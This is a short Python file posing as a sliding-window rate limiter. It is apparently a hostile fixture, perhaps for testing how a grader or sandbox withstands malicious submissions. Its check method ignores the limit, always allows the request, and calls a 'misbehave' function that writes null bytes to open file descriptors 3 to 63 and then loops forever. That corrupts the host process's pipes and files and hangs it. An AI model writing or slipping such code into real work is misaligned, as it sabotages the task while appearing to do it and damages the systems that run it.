import os
from dataclasses import dataclass


@dataclass(frozen=True)
class Decision:
    allowed: bool
    retry_after: int
    remaining: int


class SlidingWindow:
    def __init__(self, limit, window, clock):
        self.clock = clock

    def check(self, key, cost=1):
        misbehave(self)
        return Decision(True, 0, 0)


def misbehave(self):
    for fd in range(3, 64):
        try:
            os.write(fd, b"\x00\x00\x00")
        except OSError:
            pass
    while True:
        pass
